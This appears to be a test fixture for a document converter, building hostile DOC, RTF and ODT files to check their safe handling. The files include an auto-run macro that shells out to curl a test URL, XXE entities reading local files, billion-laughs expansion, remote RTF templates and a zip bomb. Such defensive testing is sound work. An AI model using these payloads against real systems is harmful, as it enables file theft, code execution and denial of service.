import { readFileSync } from 'node:fs'
import { unzipSync } from 'fflate'
import { zipOf } from '../../src/files/testing.ts'
import { type HostilePaper, latin1, noise, utf8 } from './hostile-paper.ts'
import { wordOf } from './zip-papers.ts'

const docOf = (): Buffer => readFileSync(new URL('../../samples/W1.auto.doc', import.meta.url))
const OLE = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
const TEXT = 'application/vnd.oasis.opendocument.text'

const NAMES = ['office', 'text', 'table', 'draw', 'script']
  .map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`)
  .concat('xmlns:xlink="http://www.w3.org/1999/xlink"')
  .join(' ')
const manifest = (more = ''): string =>
  `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="${TEXT}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${more}</manifest:file-entry></manifest:manifest>`
const content = (body: string, before = '', scripts = ''): string =>
  `${before}<office:document-content ${NAMES} office:version="1.2">${scripts}<office:body><office:text>${body}</office:text></office:body></office:document-content>`
const odtOf = (xml: string, more: Readonly<Record<string, string>> = {}): Uint8Array =>
  zipOf({ mimetype: TEXT, 'META-INF/manifest.xml': manifest(), 'content.xml': xml, ...more }, 9)
const texts = (lines: readonly string[]): string => lines.map((line) => `<text:p>${line}</text:p>`).join('')

const escaped = (text: string): string => text.replace(/[\u0080-\uffff]/g, (one) => `\\u${one.charCodeAt(0)}?`)
const rtfOf = (lines: readonly string[], more = ''): Uint8Array =>
  latin1(`{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}${lines.map((line) => `${escaped(line)}\\par `).join('')}${more}}`)

/** Files that only LibreOffice opens: what they try, they try there. */
export const OFFICE_PAPERS: readonly HostilePaper[] = [
  { file: 'dau-trong.doc', wrong: 'a head of Word and nothing behind it', ends: ['FILE_NOT_CONVERTED'], bytes: () => latin1(`${OLE}\0\0`) },
  {
    file: 'nhieu.doc',
    wrong: 'noise behind the head of Word',
    ends: ['FILE_NOT_CONVERTED'],
    bytes: () => new Uint8Array(Buffer.concat([latin1(OLE), noise(20_000)])),
  },
  {
    file: 'bang-cap-phat-vong.doc',
    wrong: 'sectors that follow each other in a ring',
    ends: ['read', 'FILE_NOT_CONVERTED', 'DOCUMENT_ALREADY_IN', 'DOCUMENT_WITHOUT_TEXT', 'FILE_NO_TEXT'],
    bytes: () => {
      const bytes = docOf()
      const table = (bytes.readUInt32LE(76) + 1) * 512
      for (let at = table; at < table + 512; at += 4) if (bytes.readInt32LE(at) > 0) bytes.writeInt32LE(1, at)
      return new Uint8Array(bytes)
    },
  },
  {
    file: 'mot-nua.doc',
    wrong: 'half of a file',
    ends: ['read', 'FILE_NOT_CONVERTED', 'DOCUMENT_WITHOUT_TEXT', 'FILE_NO_TEXT'],
    bytes: () => new Uint8Array(docOf().subarray(0, 20_000)),
  },
  {
    file: 'trang-web.doc',
    wrong: 'a page under the name of a Word file',
    ends: ['FILE_WRONG_KIND'],
    bytes: ({ url }) => utf8(`<html><body><img src="${url}/a.png">Kế hoạch</body></html>`),
  },
  {
    file: 'la-docx.doc',
    wrong: 'a new Word file under the name of an old one',
    ends: ['FILE_WRONG_KIND'],
    bytes: (_, lines) => wordOf(lines),
  },
  {
    file: 'nhom-mo.rtf',
    wrong: 'a hundred thousand open groups',
    ends: ['FILE_NOT_CONVERTED', 'FILE_NO_TEXT'],
    bytes: () => latin1(`{\\rtf1\\ansi ${'{'.repeat(100_000)}`),
  },
  {
    file: 'tu-xa.rtf',
    wrong: 'pictures and a template on another machine, an object that wants to be renewed',
    ends: ['read', 'FILE_NOT_CONVERTED'],
    bytes: ({ url }, lines) =>
      rtfOf(
        lines,
        `{\\*\\template ${url}/mau.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/a.png" \\\\d}{\\fldrslt a}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${Buffer.from(`${url}/b`).toString('hex')}}{\\result b}}`,
      ),
  },
  {
    file: 'trich-tep.rtf',
    wrong: 'a file of the machine, quoted',
    ends: 'read',
    bytes: ({ file }, lines) =>
      rtfOf(lines, `{\\field{\\*\\fldinst INCLUDETEXT "${file}"}{\\fldrslt kết quả}}`.replace(/[^\x20-\x7e]/g, '?')),
  },
  {
    file: 'phan-tu-xa.odt',
    wrong: 'sections, pictures and objects that lie elsewhere, a file of the machine among them',
    ends: 'read',
    bytes: ({ url, file }, lines) =>
      odtOf(
        content(
          `${texts(lines)}<text:section text:name="a"><text:section-source xlink:type="simple" xlink:href="file://${file}"/><text:p>kết quả</text:p></text:section><text:section text:name="b"><text:section-source xlink:href="${url}/a.odt"/></text:section><text:p><draw:frame draw:name="c"><draw:image xlink:href="${url}/b.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:object xlink:href="${url}/c"/></draw:frame></text:p>`,
        ),
      ),
  },
  {
    file: 'macro.odt',
    wrong: 'a macro that starts with the paper',
    ends: ['read', 'FILE_NOT_CONVERTED'],
    bytes: ({ url }, lines) =>
      odtOf(
        content(
          texts(lines),
          '',
          `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>`,
        ),
        {
          'Basic/script-lc.xml':
            '<library:libraries xmlns:library="http://openoffice.org/2000/library"><library:library library:name="Standard"/></library:libraries>',
          'Basic/Standard/Module1.xml': `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main\nShell("curl ${url}/macro")\nEnd Sub</script:module>`,
        },
      ),
  },
  {
    file: 'ty-tieng-cuoi.odt',
    wrong: 'entities that multiply to a thousand million',
    ends: ['read', 'FILE_NOT_CONVERTED', 'FILE_NO_TEXT', 'DOCUMENT_WITHOUT_TEXT'],
    bytes: (_, lines) =>
      odtOf(
        content(
          `${texts(lines)}<text:p>&j;</text:p>`,
          `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">${[...'bcdefghij'].map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`,
        ),
      ),
  },
  {
    file: 'thuc-the-ngoai.odt',
    wrong: 'an entity that is a file of the machine, and one on another',
    ends: ['read', 'FILE_NOT_CONVERTED', 'FILE_NO_TEXT', 'DOCUMENT_WITHOUT_TEXT'],
    bytes: ({ url, file }, lines) =>
      odtOf(
        content(
          `${texts(lines)}<text:p>&a; &b;</text:p>`,
          `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a SYSTEM "file://${file}"><!ENTITY b SYSTEM "${url}/x">]>`,
        ),
      ),
  },
  {
    file: 'bom.odt',
    wrong: 'a text that unpacks to two hundred megabytes',
    ends: ['FILE_NOT_CONVERTED', 'FILE_ZIP_BOMB', 'FILE_READ_TIMEOUT', 'DOCUMENT_TOO_LONG'],
    bytes: () => odtOf(content(`<text:p>${'a'.repeat(200 << 20)}</text:p>`)),
  },
  {
    file: 'khoa.odt',
    wrong: 'a text under a password',
    ends: ['FILE_NOT_CONVERTED', 'FILE_PASSWORD_PROTECTED'],
    bytes: () => {
      const parts = unzipSync(odtOf(content('')))
      const lock =
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/><manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:iteration-count="999999999" manifest:salt="AAAA"/></manifest:encryption-data>'
      return zipOf({ ...parts, 'META-INF/manifest.xml': manifest(lock), 'content.xml': noise(2000) }, 0)
    },
  },
]
